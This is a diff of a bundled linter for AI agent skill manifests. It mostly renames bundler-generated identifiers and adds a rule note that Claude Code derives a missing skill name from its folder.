 function mapKeys(visit) {
@@ -23691,12 +26471,12 @@ function acceptsIntegersOnly(schema) {
 // src/dialects/manifest-v1/entries.ts
 const inputsOf$1 = memoize((root) => declaredEntries(root, "inputs"));
 const variablesOf = memoize((root) => declaredEntries(root, "env"));
-const commandsOf$1 = memoize((root) => entriesOf$1(root, ["preconditions", "commands"], "cmd"));
-const filesOf$2 = memoize((root) => entriesOf$1(root, ["preconditions", "files"], "path"));
-const outputsOf = memoize((root) => entriesOf$1(root, ["outputs", "files"], "pattern"));
+const commandsOf$2 = memoize((root) => entriesOf$2(root, ["preconditions", "commands"], "cmd"));
+const filesOf$2 = memoize((root) => entriesOf$2(root, ["preconditions", "files"], "path"));
+const outputsOf = memoize((root) => entriesOf$2(root, ["outputs", "files"], "pattern"));
 function interfaceOf(root, list) {
 	if (get(get(root, "interface"), list)?.kind !== "list") return void 0;
-	return entriesOf$1(root, ["interface", list], list === "outputs" ? "pattern" : "name");
+	return entriesOf$2(root, ["interface", list], list === "outputs" ? "pattern" : "name");
 }
 function isSensitive$1(entry) {
 	return flag$1(get(entry.value, "sensitive")) === true;
@@ -23721,12 +26501,12 @@ function baseOf(entry, fallback) {
 	return text$1(get(entry.value, "base")) ?? fallback;
 }
 function declaredEntries(root, key) {
-	return fields(get(root, key)).filter((list) => list.key === "required" || list.key === "optional").flatMap((list) => entriesOf$1(root, [key, list.key], "name").map((entry) => ({
+	return fields(get(root, key)).filter((list) => list.key === "required" || list.key === "optional").flatMap((list) => entriesOf$2(root, [key, list.key], "name").map((entry) => ({
 		required: list.key === "required",
 		...entry
 	})));
 }
-function entriesOf$1(root, [table, list], key) {
+function entriesOf$2(root, [table, list], key) {
 	return items(get(get(root, table), list)).flatMap((value, index) => {
 		const nameValue = value.kind === "table" ? get(value, key) : value;
 		const name = source(nameValue);
@@ -23741,9 +26521,9 @@ function entriesOf$1(root, [table, list], key) {
 }
 // src/syntax/glob/path-template.ts
 const tokenPattern = /\{\{[^{}]*\}\}|\{[^{}]*\}|\[[^\]]*\]|\*\*\/?|[\s\S]/gu;
-const maxLength$7 = 200;
+const maxLength$8 = 200;
 function patternsOverlap(a, b) {
-	if (a === b || a.length > maxLength$7 || b.length > maxLength$7) return true;
+	if (a === b || a.length > maxLength$8 || b.length > maxLength$8) return true;
 	const left = tokens(a);
 	const right = tokens(b);
 	let above = [];
@@ -24550,7 +27330,7 @@ function matchCodeSpans(text) {
 	return closingRuns;
 }
 // src/syntax/markdown/links.ts
-const maxLength$6 = 2e3;
+const maxLength$7 = 2e3;
 function linksOf(body) {
 	if (!body.text.includes("](") && !body.text.includes("]:")) return [];
 	const text = withoutCode(body.text);
@@ -24592,7 +27372,7 @@ function normalizeLabel(label) {
 function destination(text, from) {
 	const start = skipBlanks(text, from);
 	if (text[start] === "<") {
-		for (let index = start + 1; index < text.length && index < start + maxLength$6; index++) {
+		for (let index = start + 1; index < text.length && index < start + maxLength$7; index++) {
 			const delimiter = text[index];
 			if (delimiter === ">") return {
 				start: start + 1,
@@ -24605,7 +27385,7 @@ function destination(text, from) {
 		return;
 	}
 	let depth = 0;
-	for (let index = start; index < start + maxLength$6; index++) {
+	for (let index = start; index < start + maxLength$7; index++) {
 		const delimiter = text[index] ?? " ";
 		if (delimiter === "\\") index++;
 		else if (delimiter === "(" && ++depth > 32) return void 0;
@@ -24634,14 +27414,14 @@ function titleEnd(text, index) {
 		"(": ")"
 	}[text[index] ?? ""];
 	if (close === void 0) return void 0;
-	const end = Math.min(text.length, index + maxLength$6);
+	const end = Math.min(text.length, index + maxLength$7);
 	for (let next = index + 1; next < end; next++) if (text[next] === "\\") next++;
 	else if (text[next] === close) return next + 1;
 }
 function skipBlanks(text, from) {
 	let index = from;
 	let lineEndings = 0;
-	const end = Math.min(text.length, from + maxLength$6);
+	const end = Math.min(text.length, from + maxLength$7);
 	while (index < end && " 	\r\n".includes(text[index] ?? "x")) {
 		if (text[index] === "\n" && ++lineEndings > 1) break;
 		index++;
@@ -24688,7 +27468,7 @@ const bodyLines = manifestRule("agent-skills", {
 	source: "Agent Skills specification, \"Progressive disclosure\": \"Keep your main `SKILL.md` under 500 lines\".",
 	*check({ manifest: { body, path } }) {
 		if (!body) return;
-		const lines = linesOf$1(body.text.trimEnd());
+		const lines = linesOf$2(body.text.trimEnd());
 		if (lines <= maxLines) return;
 		const start = {
 			line: (body.locate(0, 0).range?.start.line ?? 1) + maxLines,
@@ -24711,7 +27491,7 @@ const bodyLines = manifestRule("agent-skills", {
 	invalid: oneSkill(frontmatter$3, "Fill the next field.\n".repeat(501)),
 	valid: oneSkill("name: pdf\ndescription: Fills PDF forms.", "Fill every field.\n")
 });
-function linesOf$1(text) {
+function linesOf$2(text) {
 	let lines = 1;
 	for (let index = text.indexOf("\n"); index !== -1; index = text.indexOf("\n", index + 1)) lines++;
 	return lines;
@@ -24774,8 +27554,8 @@ function alternative(skill, path) {
 }
 // src/dialects/skill-toml/capability-patterns.ts
 const entryChecks = {
-	filesystem_read: pathFault,
-	filesystem_write: pathFault,
+	filesystem_read: pathFault$1,
+	filesystem_write: pathFault$1,
 	network: domainFault,
 	env_read: variableFault
 };
@@ -24785,7 +27565,7 @@ const variableEquivalents = new Map([
 	["USERPROFILE", "~"],
 	["PWD", "."]
 ]);
-function pathFault(entry) {
+function pathFault$1(entry) {
 	if (entry.trim() === "") return {
 		clause: msg`is empty`,
 		suggestion: null
@@ -24931,10 +27711,10 @@ function withApiVersion(version) {
 	return withToml("").replace("api_version = \"1.0\"", `api_version = "${version}"`);
 }
 // src/rules/manifest/capabilities.ts
-const paths = msg`Begin the path with ${code$1("~")}, ${code$1("./")}, ${code$1("$CARO_PROJECT_ROOT")} or ${code$1("$CARO_CACHE")}.`;
+const paths$1 = msg`Begin the path with ${code$1("~")}, ${code$1("./")}, ${code$1("$CARO_PROJECT_ROOT")} or ${code$1("$CARO_CACHE")}.`;
 const syntaxHelp = {
-	filesystem_read: paths,
-	filesystem_write: paths,
+	filesystem_read: paths$1,
+	filesystem_write: paths$1,
 	network: msg`Write ${code$1("*.example.com")}, ${code$1("example.com")} or ${code$1("https://example.com:8443")}.`,
 	env_read: msg`Write ${code$1("VAR")} or ${code$1("PREFIX_*")}.`
 };
@@ -24974,20 +27754,20 @@ const capabilitySyntax = manifestRule("skill-toml", {
 		}
 	}
 });
-const lists$2 = ["commands", "blocked"];
+const lists$3 = ["commands", "blocked"];
 const execEntryFormat = manifestRule("skill-toml", {
 	id: "exec-entry-format",
 	severity: "warning",
 	summary: "Reports entries of `terminal_exec.commands` and `terminal_exec.blocked` that are not one command.",
 	why: "No command has such a name, so a block has no effect, or a command that the skill needs is rejected.",
 	source: "skill.toml contract, \"terminal_exec\": lists of command names. It does not define their syntax, so this is a warning.",
-	enforces: [skillTomlContract("Capability format: All capabilities must use valid syntax", ...lists$2.map((key) => `capabilities.terminal_exec.${key}`)), skillTomlContract("Denylist", "capabilities.terminal_exec.blocked")],
+	enforces: [skillTomlContract("Capability format: All capabilities must use valid syntax", ...lists$3.map((key) => `capabilities.terminal_exec.${key}`)), skillTomlContract("Denylist", "capabilities.terminal_exec.blocked")],
 	howToFix: "Write an entry for each command.",
 	invalid: withToml("[capabilities.terminal_exec]\nblocked = [\"rm, dd\"]"),
 	valid: withToml("[capabilities.terminal_exec]\nblocked = [\"rm\", \"dd\"]"),
 	*check({ manifest: { root } }) {
 		const exec = get(get(root, "capabilities"), "terminal_exec");
-		for (const key of lists$2) for (const value of items(get(exec, key))) {
+		for (const key of lists$3) for (const value of items(get(exec, key))) {
 			const entry = text$1(value);
 			const fault = entry === void 0 ? null : faultOf$3(entry);
 			if (entry === void 0 || fault === null) continue;
@@ -25019,7 +27799,7 @@ const commandNameFormat = manifestRule("manifest-v1", {
 	invalid: withManifest("preconditions:\n  commands:\n    - cmd: git --version"),
 	valid: withManifest("preconditions:\n  commands:\n    - cmd: git"),
 	*check({ manifest }) {
-		for (const { name, at } of commandsOf$1(manifest.root)) {
+		for (const { name, at } of commandsOf$2(manifest.root)) {
 			if (name.trim() === "" || plainName$1.test(name)) continue;
 			yield {
 				message: msg`Command ${code$1(name)} has ${partOf$1(name)}. Runtimes do not find it in PATH.`,
@@ -25050,7 +27830,7 @@ const commandVersionRange = manifestRule("manifest-v1", {
 	invalid: withManifest("preconditions:\n  commands:\n    - cmd: git\n      min_version: \">=2.40\""),
 	valid: withManifest("preconditions:\n  commands:\n    - cmd: git\n      min_version: \"2.40\""),
 	*check({ manifest }) {
-		for (const { name, value } of commandsOf$1(manifest.root)) {
+		for (const { name, value } of commandsOf$2(manifest.root)) {
 			const low = get(value, "min_version");
 			const high = get(value, "max_version");
 			for (const [key, bound] of [["min_version", low], ["max_version", high]]) {
@@ -25573,7 +28353,7 @@ preconditions:
 `),
 	valid: withManifest("preconditions:\n  commands:\n    - cmd: git\n      min_version: \"2.40\""),
 	*check({ manifest }) {
-		yield* duplicateDrafts(commandsOf$1(manifest.root), words("Command"));
+		yield* duplicateDrafts(commandsOf$2(manifest.root), words("Command"));
 		yield* duplicateDrafts(filesOf$2(manifest.root), words("File"), (entry) => [baseOf(entry, "skill_root"), entry.name.replace(/^(?:\.\/)+/, "").replace(/\/$/, "")]);
 	}
 });
@@ -25730,9 +28510,9 @@ function helpFor(suggestion, names) {
 // src/dialects/skill-manifest-v2/argv.ts
 const skillDirectory = /^(?:\{skill_dir\}|\.)[/\\]/;
 const notAPath = /[\s{}$%*?<>|&;:,="'`()[\]~]/;
-const maxLength$5 = 4096;
+const maxLength$6 = 4096;
 function skillPathIn(word) {
-	if (word.length > maxLength$5 || !/[/\\]./.test(word) || /^[/\\-]|[/\\]$/.test(word)) return void 0;
+	if (word.length > maxLength$6 || !/[/\\]./.test(word) || /^[/\\-]|[/\\]$/.test(word)) return void 0;
 	const path = word.replace(skillDirectory, "");
 	return path === "" || notAPath.test(path) ? void 0 : path.replaceAll("\\", "/");
 }
@@ -25744,7 +28524,7 @@ const escapes$1 = {
 	"	": "\\t"
 };
 function withoutJsonEscapes(word) {
-	if (word.length > maxLength$5 || !/[\b\f\n\r\t]/.test(word)) return void 0;
+	if (word.length > maxLength$6 || !/[\b\f\n\r\t]/.test(word)) return void 0;
 	const path = word.replace(/[\b\f\n\r\t]/g, (character) => escapes$1[character] ?? character);
 	return skillPathIn(path) === void 0 ? void 0 : path;
 }
@@ -26877,13 +29657,13 @@ function isIdentifier(name) {
 	return /^[\p{ID_Start}$_][\p{ID_Continue}$\u200c\u200d]*$/u.test(name);
 }
 // src/contract/pattern/parse.ts
-const maxLength$4 = 2e3;
-const maxDepth$3 = 100;
+const maxLength$5 = 2e3;
+const maxDepth$4 = 100;
 const maxRepeat = 1e3;
 function parsePattern(text) {
-	if (text.length > maxLength$4) return {
+	if (text.length > maxLength$5) return {
 		kind: "unsupported",
-		reason: `is longer than ${maxLength$4} characters`
+		reason: `is longer than ${maxLength$5} characters`
 	};
 	if (/\p{Surrogate}/u.test(text)) return {
 		kind: "unsupported",
@@ -26933,7 +29713,7 @@ var Parser = class {
 		return this.#modes.size > 1;
 	}
 	choice(depth) {
-		if (depth > maxDepth$3) return this.#fail("unsupported", "is nested too deeply");
+		if (depth > maxDepth$4) return this.#fail("unsupported", "is nested too deeply");
 		const outer = this.#activeNames;
 		const inner = new Set(outer);
 		const options = [];
@@ -27310,7 +30090,7 @@ const isFlag = (value) => typeof value === "boolean";
 function textCount(value) {
 	return Array.isArray(value) ? value.filter((item) => typeof item === "string").length : -1;
 }
-const checks$3 = new Map([
+const checks$2 = new Map([
 	["type", (value) => [value].flat().every((type) => type === "integer" || isKind$1(type))],
 	["enum", isList],
 	["const", () => true],
@@ -27373,7 +30153,7 @@ const contextualKeywords = new Set(wordList(`
   dependencies discriminator extends disallow divisibleBy
 `));
 function classifyKeyword(keyword, value) {
-	const check = checks$3.get(keyword);
+	const check = checks$2.get(keyword);
 	if (check) return check(value) ? "evaluated" : "opaque";
 	if (isAnnotation(keyword)) return "annotation";
 	return contextualKeywords.has(keyword) ? "opaque" : "unchecked";
@@ -27410,7 +30190,7 @@ const singleSchemas = new Set(wordList(`
   items contains additionalProperties propertyNames not if then else
 `));
 const maxNodes$1 = 4e3;
-const maxDepth$2 = 64;
+const maxDepth$3 = 64;
 function withoutReferences(source) {
 	if (!isObject(source) || !hasReference(source, 0)) return source;
 	return new Resolver(source).resolve(source, 0);
@@ -27428,7 +30208,7 @@ var Resolver = class {
 		this.#root = root;
 	}
 	resolve(schema, depth) {
-		if (!isObject(schema) || depth > maxDepth$2 || ++this.#count > maxNodes$1) return schema;
+		if (!isObject(schema) || depth > maxDepth$3 || ++this.#count > maxNodes$1) return schema;
 		const pointer = schema["$ref"];
 		if (depth > 0 && schema["$id"] !== void 0) return schema;
 		if (pointer === void 0) return this.#resolveKeywords(schema, depth);
@@ -27470,7 +30250,7 @@ function decode$1(part) {
 	}
 }
 // src/contract/schema/read-schema.ts
-const maxDepth$1 = 64;
+const maxDepth$2 = 64;
 const maxNodes = 5e3;
 function readSchema(source) {
 	return new Reader().read(withoutReferences(source), 0);
@@ -27482,7 +30262,7 @@ var Reader = class {
 		if (source === false) return bottom;
 		if (!isObject(source)) return opaqueSchema(source, "schema");
 		if (Object.hasOwn(source, "$ref")) return opaqueSchema(source, "$ref");
-		if (++this.#count > maxNodes || depth > maxDepth$1) return opaqueSchema(source, "size");
+		if (++this.#count > maxNodes || depth > maxDepth$2) return opaqueSchema(source, "size");
 		const { keywords, unchecked, opaque } = classifyKeywords(source);
 		return {
 			...top,
@@ -27645,9 +30425,9 @@ function evaluateSchema(schema, value, budget = { remaining: maxSteps }) {
 	if (!schema.allowedKinds.has(kindOf$2(value))) return false;
 	if (schema.members && !schema.members.texts.has(canonical(value))) return false;
 	const evaluate = (other, part) => evaluateSchema(other, part, budget);
-	return conjunction(checks$2(schema, value, evaluate));
+	return conjunction(checks$1(schema, value, evaluate));
 }
-function* checks$2(schema, value, evaluate) {
+function* checks$1(schema, value, evaluate) {
 	if (typeof value === "number") yield* numberChecks(schema, value);
 	else if (typeof value === "string") yield* textChecks(schema, value);
 	else if (Array.isArray(value)) yield* listChecks(schema, value, evaluate);
@@ -27754,9 +30534,9 @@ function isEcmaScript(pattern) {
 		}
 	});
 }
-const maxLength$3 = 1e3;
+const maxLength$4 = 1e3;
 function rejectionReason(pattern) {
-	if (pattern.length > maxLength$3) return nothing$2;
+	if (pattern.length > maxLength$4) return nothing$2;
 	try {
 		(0, import_packages.patternPackage)().RE2JS.compile(pattern);
 		return null;
@@ -27785,11 +30565,11 @@ const inputSchemaInvalid = manifestRule("manifest-v1", {
 		for (const schema of schemasOf(manifest.root)) {
 			const faults = schemaFaults(schema);
 			const drafts = faults.length > 0 ? faults : unsatisfiableEnum(schema);
-			for (const fault of drafts) yield draftOf$4(schema, fault);
+			for (const fault of drafts) yield draftOf$5(schema, fault);
 		}
 	}
 });
-function draftOf$4({ input }, { path, clause, help, at }) {
+function draftOf$5({ input }, { path, clause, help, at }) {
 	const name = code$1(input.name);
 	return {
 		message: path === "" ? msg`Schema of input ${name} ${clause}.` : msg`${code$1(path)} in the schema of ${name} ${clause}.`,
@@ -27992,7 +30772,7 @@ const interfaceDisagrees = manifestRule("manifest-v1", {
 		if (isReadable(root, "outputs")) yield* outputDrafts(root);
 	}
 });
-const lists$1 = [
+const lists$2 = [
 	"required",
 	"optional",
 	"files"
@@ -28000,7 +30780,7 @@ const lists$1 = [
 function isReadable(root, key) {
 	const declared = get(root, key);
 	if (!declared) return true;
-	const inner = lists$1.flatMap((list) => get(declared, list) ?? []);
+	const inner = lists$2.flatMap((list) => get(declared, list) ?? []);
 	return declared.kind === "table" && inner.every(({ kind }) => kind === "list");
 }
 function* nameDrafts$1(root, list, declared, noun) {
@@ -28567,9 +31347,9 @@ function shapeDrafts(root, validate, excludedPaths = [], toValue = toJson) {
 		else faults.set(key, [error]);
 	}
 	const faultGroups = [...faults.values()];
-	const drafts = faultGroups.slice(0, maxDrafts).map((errors) => draftOf$3(root, errors));
+	const drafts = faultGroups.slice(0, maxDrafts).map((errors) => draftOf$4(root, errors));
 	const firstOmitted = faultGroups[maxDrafts];
-	return firstOmitted ? [...drafts, remainingDraft(draftOf$3(root, firstOmitted), faultGroups.length - maxDrafts)] : drafts;
+	return firstOmitted ? [...drafts, remainingDraft(draftOf$4(root, firstOmitted), faultGroups.length - maxDrafts)] : drafts;
 }
 function toTypedJson(value) {
 	switch (value.kind) {
@@ -28593,7 +31373,7 @@ function remainingDraft({ at }, count) {
 		about: "more"
 	};
 }
-function draftOf$3(root, errors) {
+function draftOf$4(root, errors) {
 	const pointer = errors[0]?.instancePath ?? "";
 	const { value, keyAt } = resolvePointer(root, pointer);
 	const field = fieldName(root, pointer);
@@ -28806,12 +31586,12 @@ function isRearranged(a, b) {
 	return [...a].sort().join("") === [...b].sort().join("");
 }
 // src/dialects/skill-toml/own-format.ts
-const parts$1 = [
+const parts$2 = [
 	"knowledge",
 	"recipes",
 	"executable"
 ];
-const tables = {
+const tables$1 = {
 	capabilities: [
 		"terminal_exec",
 		"filesystem_read",
@@ -28830,9 +31610,9 @@ function foreignReason(root) {
 	const provides = get(root, "provides");
 	if (provides?.kind === "list") return msg`${code$1("provides")} is a list`;
 	const nested = fields(provides).filter(({ value }) => isNested(value));
-	const foreign = nested.find(({ key }) => !parts$1.includes(key)) ?? nested[0];
+	const foreign = nested.find(({ key }) => !parts$2.includes(key)) ?? nested[0];
 	const skill = get(root, "skill");
-	if (foreign && (!parts$1.includes(foreign.key) || !hasTwoMarks(root))) return msg`${code$1(`provides.${foreign.key}`)} is not a flag`;
+	if (foreign && (!parts$2.includes(foreign.key) || !hasTwoMarks(root))) return msg`${code$1(`provides.${foreign.key}`)} is not a flag`;
 	if (get(skill, "api_version") || hasTwoMarks(root)) return null;
 	if (skill?.kind !== "table") return msg`there is no ${code$1("[skill]")} table`;
 	return get(skill, "id") && provides ? null : msg`${code$1("[skill]")} has no ${code$1("api_version")}`;
@@ -28850,8 +31630,8 @@ function countMarks(root) {
 		namespaceOf(text$1(get(about, "id")) ?? "") !== null,
 		get(about, "api_version") !== void 0,
 		get(about, "min_caro_version") !== void 0,
-		parts$1.some((key) => flag$1(get(provides, key)) !== void 0),
-		...Object.entries(tables).map(([key, keys]) => isOwnTable(get(root, key), keys))
+		parts$2.some((key) => flag$1(get(provides, key)) !== void 0),
+		...Object.entries(tables$1).map(([key, keys]) => isOwnTable(get(root, key), keys))
 	].filter(Boolean).length;
 }
 function aboutTable(root) {
@@ -28989,7 +31769,7 @@ function rewordUnquoted(root, draft) {
 	};
 }
 // src/rules/manifest/manifest-shape.ts
-const shapes = {
+const shapes$1 = {
 	"manifest-v1": {
 		validate: import_validators.manifestV1,
 		otherRulesFields: [
@@ -29033,7 +31813,7 @@ const shapes = {
 		]
 	}
 };
-const manifestShape = manifestRule(Object.keys(shapes), {
+const manifestShape = manifestRule(Object.keys(shapes$1), {
 	id: "manifest-shape",
 	severityText: "error; warning if a skill.toml lacks only `api_version` or `[provides]`",
 	summary: "Reports manifest fields of a wrong type, and missing keys that the format requires.",
@@ -29044,7 +31824,7 @@ const manifestShape = manifestRule(Object.keys(shapes), {
 	invalid: withManifest("execution:\n  timeout: 30s"),
 	valid: withManifest("execution:\n  timeout: 30"),
 	check({ manifest: { dialect, root } }) {
-		const shape = shapes[dialect];
+		const shape = shapes$1[dialect];
 		if (!shape) return [];
 		const drafts = shapeDrafts(root, shape.validate, shape.otherRulesFields, shape.read);
 		if (dialect !== "skill-toml") return drafts.map(withUnit);
@@ -29166,12 +31946,12 @@ const moduleExportMissing = manifestRule("skill-toml", {
 			const name = text$1(value);
 			if (name === void 0 || listed.has(name)) continue;
 			listed.add(name);
-			yield* missing$2(name, exports.exports.get(name), module, value.at);
+			yield* missing$1(name, exports.exports.get(name), module, value.at);
 		}
-		for (const name of required$1) if (!listed.has(name)) yield* missing$2(name, exports.exports.get(name), module, module.at);
+		for (const name of required$1) if (!listed.has(name)) yield* missing$1(name, exports.exports.get(name), module, module.at);
 	}
 });
-function* missing$2(name, kind, module, at) {
+function* missing$1(name, kind, module, at) {
 	if (kind === "function") return;
 	const file = pathPart(module.name);
 	yield {
@@ -29254,9 +32034,9 @@ function validForm(name, directory) {
 }
 function validDirectory(path) {
 	const name = nameOf$3(folderOf(path)).normalize("NFKC");
-	return name !== "" && isValidName(name) && characterCount(name) <= maxLength$2 ? name : null;
+	return name !== "" && isValidName(name) && characterCount(name) <= maxLength$3 ? name : null;
 }
-const maxLength$2 = 64;
+const maxLength$3 = 64;
 const nameLength = manifestRule("agent-skills", {
 	id: "name-length",
 	summary: "Reports skill names of more than 64 characters.",
@@ -29266,9 +32046,9 @@ const nameLength = manifestRule("agent-skills", {
 	*check({ manifest }) {
 		const declared = declaredName$1(manifest);
 		const length = characterCount(declared?.name ?? "");
-		if (!declared || length <= maxLength$2) return;
+		if (!declared || length <= maxLength$3) return;
 		yield {
-			message: msg`Skill name ${namePart(declared.name)} has ${length} characters. The limit is ${maxLength$2}.`,
+			message: msg`Skill name ${namePart(declared.name)} has ${length} characters. The limit is ${maxLength$3}.`,
 			at: declared.at,
 			about: declared.name
 		};
@@ -29279,7 +32059,7 @@ const nameLength = manifestRule("agent-skills", {
 const nameMissing = manifestRule("agent-skills", {
 	id: "name-missing",
 	summary: "Reports a SKILL.md without a `name`.",
-	why: "Agents, locks and other skills find a skill by its name. Agents do not load a skill without one.",
+	why: "Agents, locks and other skills find a skill by its name. Claude Code takes the name of the folder; clients that follow the specification do not load the skill.",
 	howToFix: "Add `name:` with the name of the folder.",
 	source: "Agent Skills specification, \"name field\": \"Must be 1-64 characters\".",
 	*check({ manifest }) {
@@ -29288,7 +32068,8 @@ const nameMissing = manifestRule("agent-skills", {
 		if (source(value)) return;
 		if (!field || !value) {
 			yield {
-				message: msg`Missing ${code$1("name")}. Agents do not load the skill.`,
+				message: msg`Missing ${code$1("name")}. Some agents do not load the skill.`,
+				notes: [{ message: msg`Claude Code takes the name of the folder.` }],
 				at: frontmatterLocation(manifest),
 				about: "name"
 			};
@@ -29396,7 +32177,7 @@ const paramRequiredDefault = manifestRule("skill-manifest-v2", {
 		}
 	}
 });
-const types$2 = [
+const types$1 = [
 	"string",
 	"integer",
 	"boolean",
@@ -29432,11 +32213,11 @@ const paramType = manifestRule("skill-manifest-v2", {
 		for (const { operation, name, value } of parametersOf$1(manifest.root)) {
 			const type = get(value, "type");
 			const written = text$1(type);
-			if (!type || written !== void 0 && [...types$2, "number"].includes(written)) continue;
+			if (!type || written !== void 0 && [...types$1, "number"].includes(written)) continue;
 			const suggestion = written === void 0 ? void 0 : suggestType(written);
 			const message = written === void 0 ? msg`Type of parameter ${code$1(name)} is ${shownValue(type)}, not a string.` : msg`Unknown type ${code$1(written)} of parameter ${code$1(name)}.`;
-			const help = suggestion === void 0 ? msg`Use ${list(types$2.map((known) => code$1(known)), {
-				limit: types$2.length,
+			const help = suggestion === void 0 ? msg`Use ${list(types$1.map((known) => code$1(known)), {
+				limit: types$1.length,
 				last: "or"
 			})}.` : msg`Write ${code$1(suggestion)}.`;
 			const about = `${operation.name}\0${name}`;
@@ -29452,7 +32233,7 @@ const paramType = manifestRule("skill-manifest-v2", {
 });
 function suggestType(written) {
 	const word = written.trim().toLowerCase();
-	return aliases.get(word) ?? suggest(word, types$2, 2);
+	return aliases.get(word) ?? suggest(word, types$1, 2);
 }
 const paramTypeNumber = manifestRule("skill-manifest-v2", {
 	id: "param-type-number",
@@ -29685,14 +32466,14 @@ const providesMissing = manifestRule("skill-toml", {
 	invalid: withToml("[provides]\nknowledge = true"),
 	valid: withToml("[provides]\nknowledge = true", "-- skills/deploy/knowledge/services.md --\n# Services"),
 	*check({ manifest, skill }) {
-		for (const part of ["knowledge", "recipes"]) if (provides(manifest, part) && !hasFilesIn(skill, part)) yield missing$1(manifest, skill, part);
+		for (const part of ["knowledge", "recipes"]) if (provides(manifest, part) && !hasFilesIn(skill, part)) yield missing(manifest, skill, part);
 		if (provides(manifest, "executable")) yield* missingModule(manifest, skill);
 	}
 });
 function provides({ root }, part) {
 	return flag$1(get(get(root, "provides"), part)) === true;
 }
-function missing$1(manifest, skill, folder) {
+function missing(manifest, skill, folder) {
 	const suggestion = suggest(folder, foldersOf$2(skill));
 	return {
 		message: msg`${code$1(`provides.${folder}`)} is true, but the skill has no ${pathPart(`${folder}/`)}.`,
@@ -30202,7 +32983,7 @@ const executionNodes = {
 };
 // src/dialects/manifest-v1/precondition-items.ts
 function commandItems(root) {
-	return unique(commandsOf$1(root)).map(({ name, pointer, at, value }) => item$1("command", name, pointer, at, [
+	return unique(commandsOf$2(root)).map(({ name, pointer, at, value }) => item$1("command", name, pointer, at, [
 		["min", versionFacet(get(value, "min_version"))],
 		["max", versionFacet(get(value, "max_version"))],
 		["extras", unknownKeysFacet(value, [
@@ -30911,7 +33692,7 @@ function addInput(collector, owner, input, path) {
 	if (defaultValue && defaultValue.kind !== "null") facets.set("default", valueFacet(defaultValue));
 	collector.add("input", owner, name, path, keyAt, facets);
 }
-const types$1 = [
+const types = [
 	"string",
 	"integer",
 	"boolean",
@@ -30919,7 +33700,7 @@ const types$1 = [
 ];
 function typeFacet(type) {
 	const name = text$1(type) ?? "";
-	if (name !== "json" && !types$1.includes(name)) return ["type", verbatimFacet(type)];
+	if (name !== "json" && !types.includes(name)) return ["type", verbatimFacet(type)];
 	return ["schema", {
 		shape: {
 			type: "schema",
@@ -31161,7 +33942,7 @@ function stepCommands({ root }) {
 		const label = source(get(value, "id")) || source(get(value, "name")) || programs.join(" ");
 		const count = (counts.get(prefix + label) ?? 0) + 1;
 		counts.set(prefix + label, count);
-		const commandAt = commandsOf(value)[0]?.at ?? value.at;
+		const commandAt = commandsOf$1(value)[0]?.at ?? value.at;
 		return [{
 			name: `${prefix}${label}${count === 1 ? "" : ` ${count}`}`,
 			programs,
@@ -31171,19 +33952,19 @@ function stepCommands({ root }) {
 	});
 }
 function programsOf(step) {
-	const programs = commandsOf(step).flatMap(linesOf).flatMap(programsIn);
+	const programs = commandsOf$1(step).flatMap(linesOf$1).flatMap(programsIn$1);
 	return [...new Set(programs)].sort();
 }
-function commandsOf(step) {
+function commandsOf$1(step) {
 	if (step.kind !== "table") return [step];
 	return fields(step).filter(({ key }) => commandKeys.includes(key)).map(({ value }) => value);
 }
-function linesOf(value) {
+function linesOf$1(value) {
 	if (value.kind !== "list") return [source(value) ?? ""];
 	const lines = value.items.map((item) => source(item) ?? "");
 	return lines.some((line) => /\s/.test(line)) ? lines : lines.slice(0, 1);
 }
-function programsIn(line) {
+function programsIn$1(line) {
 	const seen = new Set();
 	return shellWords(line).flatMap(({ text: word, command }) => {
 		if (seen.has(command) || /^\w+=/.test(word)) return [];
@@ -31536,8 +34317,8 @@ function platformItems(root) {
 // src/dialects/skill-toml/uncovered-fields.ts
 const text = ofKind("string");
 const flag = ofKind("boolean");
-const table = ofKind("table");
-const scalar = (value) => value.kind === "list" || value.kind === "table" ? asWritten(value) : void 0;
+const table$1 = ofKind("table");
+const scalar$1 = (value) => value.kind === "list" || value.kind === "table" ? asWritten(value) : void 0;
 const number = (value) => wholeNumber(value) === void 0 ? asWritten(value) : void 0;
 const covered = () => void 0;
 const textList = (value) => {
@@ -31551,12 +34332,12 @@ function ofKind(kind) {
 const coveredKeys = {
 	skill: {
 		id: text,
-		version: scalar,
+		version: scalar$1,
 		name: text,
 		description: text,
 		license: text,
-		api_version: scalar,
-		min_caro_version: scalar,
+		api_version: scalar$1,
+		min_caro_version: scalar$1,
 		keywords: textList,
 		authors: covered,
 		repository: covered,
@@ -31581,7 +34362,7 @@ const coveredKeys = {
 		exports: textList
 	},
 	capabilities: {
-		terminal_exec: table,
+		terminal_exec: table$1,
 		filesystem_read: textList,
 		filesystem_write: textList,
 		network: textList,
@@ -31614,7 +34395,7 @@ const tablesWithFreeKeys = {
 		keys: {}
 	},
 	features: {
-		each: table,
+		each: table$1,
 		keys: {
 			description: text,
 			default: flag
@@ -31735,9 +34516,9 @@ function dialectsIn(part) {
 	return dialects.filter((dialect) => dialect.part === part);
 }
 // src/rules/words/part-words.ts
-const parts = new Map(dialects.map(({ id, part }) => [id, part]));
+const parts$1 = new Map(dialects.map(({ id, part }) => [id, part]));
 function describePart(dialect) {
-	const part = parts.get(dialect) ?? dialect;
+	const part = parts$1.get(dialect) ?? dialect;
 	if (part === "skill.toml") return msg`${code$1(part)}`;
 	return part === "frontmatter" ? words("the frontmatter") : msg`the ${code$1(part)} block`;
 }
@@ -32248,9 +35029,9 @@ function isPlain({ value }) {
 	return type === "boolean" || type === "integer" || type === "number";
 }
 // src/dialects/skill-toml/license.ts
-const maxLength$1 = 300;
+const maxLength$2 = 300;
 function isLicense(text) {
-	if (text.length > maxLength$1) return false;
+	if (text.length > maxLength$2) return false;
 	try {
 		(0, import_packages.licensePackage)()(text);
 		return true;
@@ -32301,7 +35082,7 @@ const commonNames = {
 	unlicensed: "LicenseRef-Proprietary"
 };
 function likelyLicense(text) {
-	if (text.length > maxLength$1) return null;
+	if (text.length > maxLength$2) return null;
 	const normalized = normalizeLicense(text);
 	if (normalized !== text && isLicense(normalized)) return normalized;
 	const rewritten = text.trim().split(/(\s*\/\s*|\s+(?:and|or|with)\s+|[()]|,\s*)/i).map((part, index) => index % 2 === 0 ? normalizeLicense(part) : normalizeOperator(part)).join("");
@@ -32375,7 +35156,7 @@ const licenseSpdx = manifestRule("skill-toml", {
 		};
 	}
 });
-const lists = {
+const lists$1 = {
 	os: {
 		noun: "operating system",
 		values: [
@@ -32429,11 +35210,11 @@ const platformUnknown = manifestRule("skill-toml", {
